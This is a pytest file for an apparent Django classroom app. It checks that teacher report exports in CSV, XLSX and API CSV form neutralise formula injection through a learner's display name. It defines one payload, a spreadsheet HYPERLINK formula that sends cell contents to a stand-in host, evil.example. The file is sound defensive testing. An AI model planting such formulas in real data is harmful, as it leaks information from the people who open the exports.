"""A learner's display name cannot plant a formula in the teacher's exports (issue #12)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from teachers.models import Membership
from tests.factories import UserFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver notas")'


def test_report_csv_xlsx_and_api_csv_neutralise_formulas(client, teacher, classroom):
    Membership.objects.create(classroom=classroom, student=UserFactory(username="mallory", display_name=EVIL))
    client.force_login(teacher)
    url = reverse("teachers:report", args=[classroom.pk])
    rows = list(csv.reader(io.StringIO(client.get(url, {"format": "csv"}).content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + EVIL
    sheet = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    name = sheet.cell(row=2, column=2)
    assert name.value == EVIL and name.data_type == "s"
    api = client.get(f"/api/v1/classes/{classroom.pk}/report/", {"format": "csv"})
    assert api.status_code == 200
    assert list(csv.reader(io.StringIO(api.content.decode())))[1][1] == "'" + EVIL
